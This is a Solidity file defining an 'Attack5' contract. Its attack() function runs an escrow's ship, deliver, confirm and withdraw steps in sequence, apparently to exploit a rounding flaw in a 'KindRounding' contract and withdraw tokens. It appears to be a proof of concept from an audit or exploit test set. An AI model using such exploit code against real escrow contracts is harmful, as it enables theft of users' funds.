// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
import {KindRounding} from "./KindRounding.sol";

contract Attack5 {
    KindRounding private immutable escrow;
    address private immutable token;

    constructor(KindRounding escrow_, address token_) {
        escrow = escrow_;
        token = token_;
    }

    function attack() external {
        escrow.ship(2);
        escrow.deliver(2);
        escrow.confirm(2);
        escrow.withdraw(token);
    }
}
